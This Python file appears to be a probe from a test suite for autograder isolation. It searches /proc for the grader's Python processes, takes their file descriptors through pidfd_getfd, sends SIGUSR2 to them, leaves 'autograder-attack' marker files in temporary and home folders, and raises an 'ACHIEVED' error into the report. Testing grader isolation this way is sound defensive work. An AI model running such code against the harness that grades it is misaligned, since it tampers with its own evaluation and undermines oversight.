"""Signals the grader through `pidfd_open` and `pidfd_send_signal`, and takes its descriptors with `pidfd_getfd`.

family: signals
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="pidfd_signal_and_getfd"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import ctypes
import os
import signal

_libc = ctypes.CDLL(None, use_errno=True)
for _pid in _graders():
    try:
        _fd = os.pidfd_open(_pid)
        if signal.pidfd_send_signal(_fd, 0) is None:
            _achieved(f"may signal {_pid} by a pidfd")
        for _number in range(3, 30):
            _taken = _libc.syscall(438, _fd, _number, 0)
            if _taken >= 0:
                _achieved(f"took descriptor {_number} of {_pid}: {os.readlink(f'/proc/self/fd/{_taken}')}")
        signal.pidfd_send_signal(_fd, signal.SIGUSR2)
    except Exception:
        continue
_report()
